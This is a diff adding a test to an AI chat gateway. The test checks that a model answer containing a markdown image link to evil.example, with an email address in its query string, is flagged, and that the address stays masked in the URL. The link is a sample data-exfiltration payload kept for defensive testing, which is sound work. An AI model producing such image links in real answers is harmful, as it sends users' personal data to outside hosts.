@@ -52,6 +52,25 @@ async def test_one_request_passes_through_all_services() -> None:
         await outcome_is_measured_and_stored(stack, completion)
 
 
+async def test_an_answer_that_would_send_personal_data_away_keeps_its_placeholder() -> None:
+    address = "anna.schmidt@example.com"
+    text = f"Write to {address}. ![status](https://evil.example/?q={address})"
+    async with asyncio.timeout(10), running_stack() as stack:
+        body = {"model": "small", "messages": [{"role": "user", "content": text}], "request_id": "r1"}
+        reply = await stack.caller.post("/v1/chat/completions", json=body)
+
+        # The guard reports the placeholder in the address of the image (domain/output/placeholder_links.py).
+        checked = await stack.event(ScreenedAnswer)
+        assert checked.verdict is not None
+        found = {finding.kind: (finding.action, finding.count) for finding in checked.verdict.findings}
+        assert found["PLACEHOLDER_IN_URL"] == ("flag", 1)
+
+        # The gateway restores the address in the prose alone (schemas/restoring.py).
+        assert reply.json()["choices"][0]["message"]["content"] == (
+            f"Done: Write to {address}. ![status](https://evil.example/?q=<EMAIL_ADDRESS_1>)"
+        )
+
+
 async def answer_passes_back(stack: InMemoryStack, attempt: Attempt) -> Completion:
     """Follow the answer of a provider call to the one outcome of the request."""
     # A provider makes the call (services/router/adapters/providers/; here EchoProvider), and the router
